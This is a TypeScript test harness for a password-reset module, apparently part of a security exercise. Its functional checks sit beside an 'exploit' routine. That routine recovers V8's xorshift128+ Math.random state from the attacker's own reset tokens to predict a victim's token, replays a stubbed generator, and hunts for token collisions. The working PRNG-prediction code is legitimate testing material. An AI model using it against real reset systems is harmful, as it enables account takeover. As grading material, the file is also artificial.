import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import type { Breach, Vary } from '#proof/vary'

type Code = typeof import('./password-resets.ts')

const start = Date.UTC(2026, 1, 3, 10)

function open({ PasswordResets }: Code, ada: string) {
  const passwords: Record<string, string> = {}
  const mails: { to: string; token: string }[] = []
  const accounts = new Map(
    ['mallory@example.com', ada].map((email) => [email, { email, setPassword: (password: string) => void (passwords[email] = password) }]),
  )
  const resets = new PasswordResets(accounts, (to, token) => mails.push({ to, token }))
  return { passwords, mails, resets, newest: () => mails.at(-1)?.token ?? '' }
}

export function works(code: Code, vary: Vary) {
  const ada = `${vary.word()}@example.com`
  const { passwords, mails, resets, newest } = open(code, ada)
  resets.request(`${vary.text(8)}@example.com`, start)
  assert.equal(mails.length, 0, 'Nobody should get a mail for an unknown address.')
  resets.request(ada.toUpperCase(), start)
  assert.equal(mails[0]?.to, ada, 'The mail should go to the stored address, however the address was typed.')
  const first = newest()
  resets.request(ada, start + 1)
  const second = newest()
  assert.ok(first !== second && second !== '', 'Each request should make a new token.')
  assert.equal(resets.redeem(first, 'x', start + 2), false, 'Only the newest token should be good.')
  const password = vary.text(10)
  assert.equal(resets.redeem(second, password, start + 2), true, 'The newest token should be accepted.')
  assert.equal(passwords[ada], password, 'The new password should be set.')
  assert.equal(resets.redeem(second, 'again', start + 3), false, 'A token should be good only once.')
  resets.request(ada, start)
  assert.equal(resets.redeem(newest(), 'late', start + 3_600_000), false, 'A token should be refused after an hour.')
  resets.request(ada, start)
  assert.equal(resets.redeem(newest(), password, start + 25 * 60_000), true, 'A token should be good for half an hour.')
}

export function exploit(code: Code, vary: Vary): false | Breach {
  const ada = `${vary.word()}@example.com`
  const token = predictToken(code, ada) ?? repeatToken(code, ada) ?? guessToken(code, ada)
  return token ? { sent: `${token.sent}, and the token ${token.guess}`, got: `a new password for ${ada}` } : false
}

/** Asks for some tokens of his own, computes the state of the generator, and so the token of somebody else. */
function predictToken(code: Code, ada: string) {
  const { passwords, mails, resets } = open(code, ada)
  // The generator hands out its values in portions of 64; where a portion ends in between, the attacker tries again.
  for (let attempt = 0; attempt < 5; attempt++) {
    const now = start + attempt * 60_000
    for (let i = 0; i < 3; i++) resets.request('mallory@example.com', now + i)
    const own = mails.slice(-3).map(({ token }) => token)
    const served = now + 20
    resets.request(ada, served)

    if (!own.every((token) => /^([\da-f]+-)?([\da-f]{8})+$/.test(token))) return undefined
    const words = own.flatMap((token) => (token.split('-').at(-1) ?? '').match(/.{8}/g) ?? []).map((hex) => Number.parseInt(hex, 16))
    const predicted = predict(words, words.length / 3)?.map((word) => word.toString(16).padStart(8, '0')).join('') ?? ''
    // The mail's time tells when the server worked, give or take some milliseconds.
    for (let time = served - 15; time <= served + 15; time++) {
      const hash = createHash('sha256').update(`${ada}:${time}`).digest('hex')
      for (const guess of [predicted, `${time.toString(16)}-${predicted}`, hash])
        if (resets.redeem(guess, 'taken', now + 30) && passwords[ada] === 'taken') return { sent: 'three tokens of his own', guess }
    }
  }
  return undefined
}

/** Has the code, knows the time, and has found the state of the generator: his own copy makes the same token, whatever is done to hide it. */
function repeatToken(code: Code, ada: string) {
  const { random } = Math
  const { now } = Date
  for (let attempt = 0; attempt < 3; attempt++) {
    const [service, copy] = [open(code, ada), open(code, ada)]
    try {
      for (const { resets } of [service, copy]) {
        let state = 0.25
        Math.random = () => (state = (state + 0.618033988749895) % 1)
        Date.now = () => start
        resets.request(ada, start)
      }
    } finally {
      Math.random = random
      Date.now = now
    }
    const guess = copy.newest()
    if (service.resets.redeem(guess, 'taken', start + 1) && service.passwords[ada] === 'taken') return { sent: 'a copy of the code, the time and the state of the generator', guess }
  }
  return undefined
}

/** Asks for tokens of his own until he has seen many of them. When one comes twice, there are so few that others have them as well. */
function guessToken(code: Code, ada: string) {
  const { resets, newest } = open(code, ada)
  const seen = new Set<string>()
  for (let number = 0; number < 1000; number++) {
    resets.request('mallory@example.com', start + number)
    if (seen.has(newest())) return { sent: `${number + 1} tokens of his own, one of them twice`, guess: newest() }
    seen.add(newest())
  }
  return undefined
}

/** 64 bits, each the sum of some of the 128 unknown bits. */
type Bits = bigint[]
const left = (x: Bits, n: number) => x.map((_, i) => x[i - n] ?? 0n)
const right = (x: Bits, n: number) => x.map((_, i) => x[i + n] ?? 0n)
const add = (x: Bits, y: Bits) => x.map((bits, i) => bits ^ (y[i] as bigint))

/** One step of V8's generator, xorshift128+, which is linear: sums of bits become sums of bits. */
function step([a, b]: [Bits, Bits]): [Bits, Bits] {
  let next = add(a, left(a, 23))
  next = add(next, right(next, 17))
  return [b, add(add(next, b), right(b, 26))]
}

/**
 * The next `count` values after the given ones, all of 32 bits. V8 fills a list of 64 values and takes from its end, so what was seen first was made last:
 * the unknowns are the state of the last value to come, and each earlier one is a step away.
 */
function predict(seen: number[], count: number): number[] | undefined {
  const unknowns = (from: number) => Array.from({ length: 64 }, (_, i) => 1n << BigInt(from + i))
  let state: [Bits, Bits] = [unknowns(1), unknowns(65)]
  const states: Bits[] = []
  for (let i = 0; i < count + seen.length; i++) {
    states.push(state[0])
    state = step(state)
  }
  const equations = seen.toReversed().flatMap((value, i) =>
    Array.from({ length: 32 }, (_, bit) => (states[count + i]?.[32 + bit] as bigint) | BigInt((value >>> bit) & 1)),
  )
  const pivots = new Map<number, bigint>()
  for (let row of equations) {
    for (let i = 128; i > 0 && row > 1n; i--) {
      if (((row >> BigInt(i)) & 1n) === 0n) continue
      const pivot = pivots.get(i)
      if (pivot === undefined) {
        pivots.set(i, row)
        row = 0n
      } else row ^= pivot
    }
    if (row === 1n) return undefined
  }
  if (pivots.size < 128) return undefined
  let known = 1n
  const parity = (bits: bigint) => BigInt(bits.toString(2).replaceAll('0', '').length % 2)
  for (let i = 1; i <= 128; i++) known |= parity((pivots.get(i) as bigint) & known) << BigInt(i)
  return Array.from({ length: count }, (_, i) => {
    const bits = states[count - 1 - i] as Bits
    return Number(bits.slice(32).reduce((value, sum, bit) => value | (parity(sum & known) << BigInt(bit)), 0n))
  })
}
